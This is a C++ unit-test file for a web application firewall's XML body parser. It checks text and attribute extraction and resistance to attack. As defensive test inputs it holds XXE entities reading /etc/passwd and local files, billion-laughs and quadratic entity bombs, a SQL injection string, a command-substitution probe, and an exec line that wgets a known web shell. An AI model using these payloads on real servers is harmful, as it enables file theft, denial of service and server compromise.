#include "gates/waf/xml_body.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>

namespace rampart::waf {
namespace {

XmlValues Parse(std::string_view body) {
  XmlValues v;
  std::string error;
  EXPECT_TRUE(ParseXmlBody(body, v, &error)) << error << " for: " << body;
  return v;
}

std::string Joined(const XmlValues& v) {
  std::string all;
  for (const auto& t : v.text) all += t + "\n";
  for (const auto& a : v.attributes) all += a + "\n";
  return all;
}

using Strings = std::vector<std::string>;

TEST(XmlBodyTest, RootTextIsAllTextConcatenated) {
  const XmlValues v = Parse(
      "<?xml version=\"1.0\"?><root><a>one</a><b>two<c>three</c></b>"
      "<!-- comment --><?pi data?><![CDATA[<four>]]></root>");
  EXPECT_EQ(v.text, Strings{"onetwothree<four>"});
  EXPECT_TRUE(v.attributes.empty());
}

TEST(XmlBodyTest, WhitespaceTextKept) {
  EXPECT_EQ(Parse("<r>\n  <a>x</a>\n</r>").text, Strings{"\n  x\n"});
}

TEST(XmlBodyTest, AttributesInDocumentOrder) {
  const XmlValues v = Parse(
      "<r id=\"1\" xmlns:p=\"urn:p\" xmlns=\"urn:d\"><a p:x=\"2\" y='3'><b z=\"4\"/></a>"
      "<c w=\"5\"/></r>");
  EXPECT_EQ(v.attributes, (Strings{"1", "2", "3", "4", "5"}));  // no namespace declarations
  EXPECT_EQ(v.text, Strings{""});
}

// CRS tests put their payloads in attributes (e.g. 921110, 932130, 933100).
TEST(XmlBodyTest, CrsAttributePayloads) {
  EXPECT_EQ(Parse("<?xml version=\"1.0\"?><root><a probe=\"$(cmd)\"></a></root>").attributes,
            Strings{"$(cmd)"});
  EXPECT_EQ(Parse("<?xml version=\"1.0\"?><root><a probe=\"&#10;POST / HTTP/1.1\"></a></root>")
                .attributes,
            Strings{"\nPOST / HTTP/1.1"});
  EXPECT_EQ(Parse("<?xml version=\"1.0\"?><root><a probe=\"&lt;? exec('wget "
                  "http://r57.biz/r57.txt -O\"></a></root>")
                .attributes,
            Strings{"<? exec('wget http://r57.biz/r57.txt -O"});
}

TEST(XmlBodyTest, CharacterAndPredefinedReferencesDecoded) {
  EXPECT_EQ(Parse("<r>&lt;script&gt;&#x41;&#66;&amp;&quot;&apos;</r>").text,
            Strings{"<script>AB&\"'"});
}

// v3's config-xml_external_entity test 1: an internal entity's text is part of the content.
TEST(XmlBodyTest, InternalEntityExpandedInContent) {
  const XmlValues v = Parse(
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE author [\n<!ELEMENT book "
      "(#PCDATA)>\n<!ENTITY js \"Jo Smith\">\n]>\n<bookstore>\n<book category=\"WEB\"> "
      "&js;</book>\n</bookstore>");
  EXPECT_EQ(v.text, Strings{"\n Jo Smith\n"});
  EXPECT_EQ(v.attributes, Strings{"WEB"});
}

TEST(XmlBodyTest, NestedEntitiesAndEntitiesInAttributes) {
  const XmlValues v = Parse(
      "<!DOCTYPE r [<!ENTITY a \"<b>bold</b>\"><!ENTITY c \"[&a;]\"><!ENTITY t \"txt\">"
      "<!ENTITY u \"(&t;)\">]><r x=\"1&u;2\">&c;<s y=\"&t;\"/></r>");
  EXPECT_EQ(v.text, Strings{"[bold]"});
  EXPECT_EQ(v.attributes, (Strings{"1(txt)2", "txt"}));
}

class XxeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    path_ = ::testing::TempDir() + "rampart_xxe_secret.txt";
    std::ofstream(path_) << "XXE-SECRET-MARKER";
  }
  void TearDown() override { std::remove(path_.c_str()); }
  std::string path_;
};

TEST_F(XxeTest, ExternalGeneralEntityNotLoaded) {
  const std::string body = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file://" +
                           path_ + "\">]><r a=\"&x;\">before&x;after</r>";
  XmlValues v;
  std::string error;
  ParseXmlBody(body, v, &error);  // may or may not count as well-formed; must not load
  EXPECT_EQ(Joined(v).find("XXE-SECRET-MARKER"), std::string::npos) << Joined(v);
}

TEST_F(XxeTest, EtcPasswdNotLoaded) {
  // v3's config-xml_external_entity tests 2 and 3.
  XmlValues v;
  ParseXmlBody(
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE author [\n<!ELEMENT book ANY>\n"
      "<!ENTITY js SYSTEM \"/etc/passwd\">\n]>\n<bookstore>\n<book category=\"WEB\"> "
      "&js;</book>\n</bookstore>",
      v, nullptr);
  EXPECT_EQ(Joined(v).find("root:"), std::string::npos);
}

TEST_F(XxeTest, ExternalParameterEntityNotLoaded) {
  // The external parameter entity would define an entity whose text is the secret.
  const std::string dtd = ::testing::TempDir() + "rampart_xxe.dtd";
  std::ofstream(dtd) << "<!ENTITY leak \"XXE-SECRET-MARKER\">";
  const std::string body =
      "<!DOCTYPE r [<!ENTITY % p SYSTEM \"file://" + dtd + "\"> %p;]><r>&leak;</r>";
  XmlValues v;
  ParseXmlBody(body, v, nullptr);
  EXPECT_EQ(Joined(v).find("XXE-SECRET-MARKER"), std::string::npos);
  std::remove(dtd.c_str());
}

TEST_F(XxeTest, ExternalDtdNotLoaded) {
  const std::string dtd = ::testing::TempDir() + "rampart_xxe2.dtd";
  std::ofstream(dtd)
      << "<!ENTITY leak \"XXE-SECRET-MARKER\"><!ATTLIST r d CDATA \"XXE-SECRET-MARKER\">";
  const std::string body = "<!DOCTYPE r SYSTEM \"file://" + dtd + "\"><r>&leak;</r>";
  XmlValues v;
  ParseXmlBody(body, v, nullptr);
  EXPECT_EQ(Joined(v).find("XXE-SECRET-MARKER"), std::string::npos);
  std::remove(dtd.c_str());
}

TEST(XmlBodyTest, NetworkEntityNotFetched) {
  // 192.0.2.1 is TEST-NET: a fetch attempt would hang on connect; NONET and our loader refuse.
  const auto start = std::chrono::steady_clock::now();
  XmlValues v;
  ParseXmlBody(
      "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://192.0.2.1/x\"><!ENTITY % y SYSTEM "
      "\"http://192.0.2.1/y\"> %y;]><r>&x;</r>",
      v, nullptr);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
}

TEST(XmlBodyTest, BillionLaughsFailsWithoutExpanding) {
  std::string body = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">";
  body += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">";
  for (int i = 2; i <= 9; ++i) {
    body += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) body += "&lol" + std::to_string(i - 1) + ";";
    body += "\">";
  }
  body += "]><lolz a=\"&lol9;\">&lol9;</lolz>";
  const auto start = std::chrono::steady_clock::now();
  XmlValues v;
  std::string error;
  EXPECT_FALSE(ParseXmlBody(body, v, &error));
  EXPECT_FALSE(error.empty());
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  EXPECT_LE(Joined(v).size(), 8 * body.size() + (1u << 20) + 16);
}

TEST(XmlBodyTest, QuadraticBlowupFailsWithinBudget) {
  const std::string big(50000, 'A');
  std::string body = "<!DOCTYPE r [<!ENTITY a \"" + big + "\">]><r>";
  for (int i = 0; i < 20000; ++i) body += "&a;";
  body += "</r>";
  XmlValues v;
  std::string error;
  EXPECT_FALSE(ParseXmlBody(body, v, &error));
  EXPECT_LE(Joined(v).size(), 8 * body.size() + (1u << 20) + 16);
}

TEST(XmlBodyTest, MalformedFailsButKeepsWhatWasParsed) {
  XmlValues v;
  std::string error;
  EXPECT_FALSE(ParseXmlBody("<r a=\"1\"><b>payload</b><c>", v, &error));
  EXPECT_EQ(error, "XML: Failed parsing document.");
  // v3 keeps libxml2's partial tree and evaluates XPath on it.
  EXPECT_EQ(v.text, Strings{"payload"});
  EXPECT_EQ(v.attributes, Strings{"1"});
}

TEST(XmlBodyTest, NotXmlFails) {
  for (const char* body : {"", "   ", "test", "{\"a\":1}", "<a></b>", "<a><a>", "<a/><b/>",
                           "<a>&undefined;</a>", "<a x=1/>", "<a>\x01</a>"}) {
    XmlValues v;
    std::string error;
    EXPECT_FALSE(ParseXmlBody(body, v, &error)) << body;
    EXPECT_EQ(error, "XML: Failed parsing document.") << body;
  }
}

TEST(XmlBodyTest, DeepNestingFailsSafely) {
  std::string body;
  for (int i = 0; i < 100000; ++i) body += "<a>";
  XmlValues v;
  EXPECT_FALSE(ParseXmlBody(body, v, nullptr));
}

TEST(XmlBodyTest, Utf16DocumentDecoded) {
  const std::string utf16("\xFF\xFE<\0r\0>\0h\0i\0<\0/\0r\0>\0", 20);
  EXPECT_EQ(Parse(utf16).text, Strings{"hi"});
}

TEST(XmlBodyTest, SoapEnvelope) {
  const XmlValues v = Parse(
      "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
      "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
      "<soap:Body soap:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">"
      "<q:getInput xmlns:q=\"urn:q\"><id>' or 1=1--</id></q:getInput></soap:Body>"
      "</soap:Envelope>");
  EXPECT_EQ(v.text, Strings{"' or 1=1--"});
  EXPECT_EQ(v.attributes, Strings{"http://schemas.xmlsoap.org/soap/encoding/"});
}

TEST(XmlBodyTest, RepeatedParsesIndependent) {
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(Parse("<r a=\"" + std::to_string(i) + "\"/>").attributes, Strings{std::to_string(i)});
  }
}

}  // namespace
}  // namespace rampart::waf
